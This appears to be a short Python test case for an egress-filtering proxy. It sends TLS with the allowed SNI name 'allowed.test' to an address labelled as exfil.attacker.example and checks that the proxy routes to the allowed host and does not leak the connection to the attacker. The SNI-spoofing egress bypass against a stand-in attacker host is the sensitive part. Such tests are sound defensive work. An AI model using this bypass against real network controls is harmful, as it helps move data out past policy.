# backends: all
# what: TLS with SNI allowed.test sent to exfil.attacker.example's address (198.18.1.66:443): proxyd connects where IT resolved allowed.test
# expect-allowed: allowed.test tls
# inet: allow allowed.test
# expect-stdout: LANDED: .*hello from allowed.test
import socket, ssl

ctx = ssl._create_unverified_context()
try:
    raw = socket.create_connection(("198.18.1.66", 443), timeout=10)
    s = ctx.wrap_socket(raw, server_hostname="allowed.test")
    s.sendall(b"GET / HTTP/1.1\r\nHost: allowed.test\r\nConnection: close\r\n\r\n")
    out = b""
    while True:
        d = s.recv(65536)
        if not d:
            break
        out += d
    text = out.decode("latin-1")
    if "hello from exfil" in text:
        print("LEAK:", text[-200:])
    print("LANDED:", text.split("\r\n\r\n", 1)[-1].strip())
except Exception as e:
    print("BLOCKED:", type(e).__name__, e)
